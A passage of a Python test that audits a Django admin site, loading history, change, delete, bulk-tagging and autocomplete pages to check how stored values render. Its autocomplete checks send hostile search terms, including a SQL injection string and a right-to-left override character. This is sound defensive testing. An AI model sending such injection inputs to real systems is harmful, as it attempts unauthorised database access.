    # a third of the versions, and for each payload one of the other kinds of object. The two
    # big forms carry every payload: the left version's (its points and sources inline) and
    # every version's party picker.
    others = [Source, Theme, Tag, Party, Citation, Assessment, Correspondence]
    for i, point in enumerate(points):
        url = _admin(Provision, "history", point.pk)
        audit.html(url, audit.get(client, url))
        if i % 3 == 0:
            citation, assessment = point.citations.get(), point.assessments.get()
            url = _admin(Provision, "change", point.pk)
            audit.html(url, audit.get(client, url), {
                "provision.text": [point.text], "provision.note": [point.note],
                "citation.reading": [citation.reading], "citation.note": [citation.note],
                "assessment.rationale": [assessment.rationale],
            })  # fmt: skip
        elif i % 3 == 1:
            plan = world["plans"][i]
            url = _admin(Plan, "change", plan.pk)
            audit.html(url, audit.get(client, url), {
                "plan.title": [plan.title], "plan.summary": [plan.summary], "plan.note": [plan.note]
            })  # fmt: skip
        model = others[i % len(others)]
        obj = {
            Source: world["sources"][i], Theme: world["themes"][i], Tag: world["tags"][i],
            Party: world["parties"][i], Citation: point.citations.first(),
            Assessment: point.assessments.first(), Correspondence: point.successor_links.first(),
        }[model]  # fmt: skip
        if obj is not None:
            url = _admin(model, "change", obj.pk)
            audit.html(url, audit.get(client, url))
            if i % 5 == 0:
                url = _admin(model, "history", obj.pk)
                audit.html(url, audit.get(client, url))
    audit.html("left plan", audit.get(client, _admin(Plan, "change", left.pk)), {
        "provision.text": _values(points, "text"), "party.name": _values(world["parties"], "name"),
        "citation.reading": [c.reading for c in left.citations.all()],
    })  # fmt: skip

    # an old revision's form (simple-history's revert screen) and the delete confirmations,
    # which list every dependent object by name
    record = points[1].history.order_by("history_id").first()
    url = _admin(Provision, "change", points[1].pk).replace(
        "change/", f"history/{record.history_id}/"
    )
    audit.html(url, audit.get(client, url))
    for obj in (left, world["sources"][1], world["tags"][2], world["themes"][3]):
        url = _admin(type(obj), "delete", obj.pk)
        audit.html(url, audit.get(client, url))

    # the bulk tagging screen, listing every selected point
    url = _admin(Provision, "changelist")
    response = audit.call(client, "post", url, {"action": "tag_selected",
                          "_selected_action": [p.pk for p in points]})  # fmt: skip
    audit.html(f"{url} tag_selected", response)

    # autocomplete answers (JSON) for the source, plan, provision and tag pickers
    for model_name, field in (("citation", "source"), ("citation", "provision"),
                              ("assessment", "tag"), ("plan", "based_on")):  # fmt: skip
        for term in ("", "script", "\u202e", "' OR 1=1 --"):
            response = audit.get(client, "/admin/autocomplete/", {
                "app_label": "provisions", "model_name": model_name, "field_name": field,
                "term": term,
            })  # fmt: skip
            if audit.status(f"autocomplete {model_name}.{field}", response):
                json.loads(response.content)
    audit.done()
